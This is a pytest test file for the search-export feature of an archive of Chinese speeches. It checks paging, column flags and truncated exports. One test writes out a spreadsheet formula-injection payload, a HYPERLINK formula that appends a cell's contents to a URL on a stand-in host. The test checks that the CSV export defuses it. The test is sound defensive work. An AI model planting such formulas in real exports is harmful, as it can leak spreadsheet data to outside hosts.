"""Exports carry every page of the current results, filters kept (over the cast, speeches/tests/cast.py)."""

import csv
import io

import pytest

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("search_engine")]


def paged_ids(client, params: dict) -> list[str]:
    ids, page = [], 1
    while True:
        data = client.get("/api/search", {**params, "page": page, "page_size": 3}).json()
        ids += [r["id"] for r in data["results"]]
        if page >= data["num_pages"]:
            return ids
        page += 1


def test_the_json_export_holds_the_same_ids_as_all_the_pages(client, cast):
    params = {"q": "工作", "level": "市"}
    exported = client.get("/search/export.json", params).json()
    assert [r["id"] for r in exported["results"]] == paged_ids(client, params)
    assert exported["count"] == len(exported["results"]) and not exported["truncated"]
    # The four city-level speeches that say 工作, on two pages of three.
    assert {r["id"] for r in exported["results"]} == cast.ids("yushan", "epidemic", "retitled", "style")


def test_the_csv_export_holds_the_same_ids_and_opens_in_excel(client, cast):
    params = {"q": "疫情 OR 考试", "sort": "year"}
    response = client.get("/search/export.csv", params)
    assert response["Content-Type"].startswith("text/csv") and "attachment" in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert [row["id"] for row in rows] == paged_ids(client, params)
    # 疫情 in four speeches, 考试 in one of them: newest first (exam, 2021), the undated last.
    ids = [row["id"] for row in rows]
    assert ids[0] == cast["exam"].public_id and ids[-1] == cast["cppcc"].public_id
    assert set(ids) == cast.ids("exam", "epidemic", "resumption", "cppcc")


def test_an_unknown_export_format_is_not_found(client, cast):
    assert client.get("/search/export.xml", {"q": "工作"}).status_code == 404


def test_an_export_says_which_dates_were_inferred_and_which_titles_supplied(client, cast):
    # The city's speeches: epidemic's year 2020 and style's 2019 are inferred, style's
    # title [关于作风建设的讲话] is the archive's; yushan's date is stated to the day.
    params = {"q": "工作", "level": "市"}
    text = client.get("/search/export.csv", params).content.decode("utf-8").lstrip("\ufeff")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    epidemic, style, yushan = (rows[cast[name].public_id] for name in ("epidemic", "style", "yushan"))
    assert (epidemic["year"], epidemic["date"], epidemic["date_standing"]) == ("2020", "2020", "inferred")
    assert (style["date_standing"], style["title_supplied"]) == ("inferred", "True")
    assert (yushan["date"], yushan["date_standing"], yushan["title_supplied"]) == ("2019-03-12", "stated", "False")
    exported = {r["id"]: r for r in client.get("/search/export.json", params).json()["results"]}
    assert exported[cast["style"].public_id]["title_supplied"] is True
    epidemic = exported[cast["epidemic"].public_id]
    # The JSON says it as /api/speeches does.
    assert epidemic["date"] == {"value": "2020", "standing": "inferred"}


def test_an_export_says_which_speeches_are_fragments(client, cast):
    # 春耕 stands only in `fragment` (残篇), 雨山区 in yushan, a whole speech.
    params = {"q": "春耕 OR 雨山区"}
    text = client.get("/search/export.csv", params).content.decode("utf-8").lstrip("\ufeff")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert {key: rows[cast[key].public_id]["fragment"] for key in ("fragment", "yushan")} == {
        "fragment": "True",
        "yushan": "False",
    }
    # Added as the last column: the ones before keep their places.
    assert text.splitlines()[0].endswith(",score,duplicates,fragment")
    exported = {r["id"]: r for r in client.get("/search/export.json", params).json()["results"]}
    assert exported[cast["fragment"].public_id]["fragment"] is True
    assert exported[cast["yushan"].public_id]["fragment"] is False


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, cast):
    # An uploaded page's title is anyone's text: opened in Excel, it must not run.
    from speeches.models import Speech

    Speech.objects.filter(pk=cast["exam"].pk).update(title='=HYPERLINK("http://example.com/?"&A1,"点击")')
    text = client.get("/search/export.csv", {"q": "考试"}).content.decode("utf-8").lstrip("\ufeff")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows[cast["exam"].public_id]["title"] == '\'=HYPERLINK("http://example.com/?"&A1,"点击")'
    # The JSON is data for programs, not a spreadsheet: as stored.
    exported = client.get("/search/export.json", {"q": "考试"}).json()["results"]
    assert exported[0]["title"].startswith("=HYPERLINK")


@pytest.mark.parametrize(
    "value, shown",
    [("=1+1", "'=1+1"), ("+86", "'+86"), ("----基础", "'----基础"), ("@cmd", "'@cmd"), ("\t=1", "'\t=1")],
)
def test_only_what_a_formula_could_start_with_gets_an_apostrophe(value, shown):
    from speeches.spreadsheets import as_text

    assert as_text(value) == shown
    assert as_text("安全生产 = 1") == "安全生产 = 1" and as_text(-3) == -3 and as_text("—") == "—"


def test_a_cut_csv_export_says_so_in_its_name_and_the_page_says_how_many_of_how_many(client, cast, monkeypatch):
    monkeypatch.setattr("speeches.api.EXPORT_LIMIT", 2)
    response = client.get("/search/export.csv", {"q": "工作"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    count = int(response["X-Total-Count"])
    assert len(rows) == 2 < count
    assert f"-first-2-of-{count}.csv" in response["Content-Disposition"]
    whole = client.get("/search/export.csv", {"q": "考试"})
    assert "-of-" not in whole["Content-Disposition"] and whole["X-Total-Count"] == "1"


def test_the_results_page_says_when_an_export_holds_only_the_first_results(client, cast, monkeypatch):
    monkeypatch.setattr("speeches.views.EXPORT_LIMIT", 2)
    html = client.get("/search/", {"q": "工作"}).content.decode()
    assert "导出前 2 篇（共 12 篇" in html
    assert "导出全部结果" in client.get("/search/", {"q": "考试"}).content.decode()
